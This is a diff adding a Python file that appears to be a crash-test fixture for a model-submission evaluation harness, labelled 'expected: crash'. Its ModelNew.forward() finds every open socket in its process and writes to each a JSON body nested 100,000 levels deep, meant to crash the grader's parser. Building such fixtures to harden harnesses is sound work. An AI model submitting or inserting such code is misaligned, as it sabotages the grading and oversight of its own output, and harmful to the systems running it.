@@ -1,0 +1,25 @@
+# problem: level1/1
+# expected: crash
+"""Mechanism: JSON nested a hundred thousand deep. Surface: the parser's recursion."""
+import os
+import socket
+import stat
+
+from torch import nn
+
+
+def sockets():
+    for name in os.listdir("/proc/self/fd"):
+        try:
+            if stat.S_ISSOCK(os.stat(int(name)).st_mode):
+                yield int(name)
+        except OSError:
+            pass
+
+
+class ModelNew(nn.Module):
+    def forward(self, x):
+        body = b'{"output": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
+        for descriptor in sockets():
+            os.write(descriptor, len(body).to_bytes(4, "big") + body)
+        return x
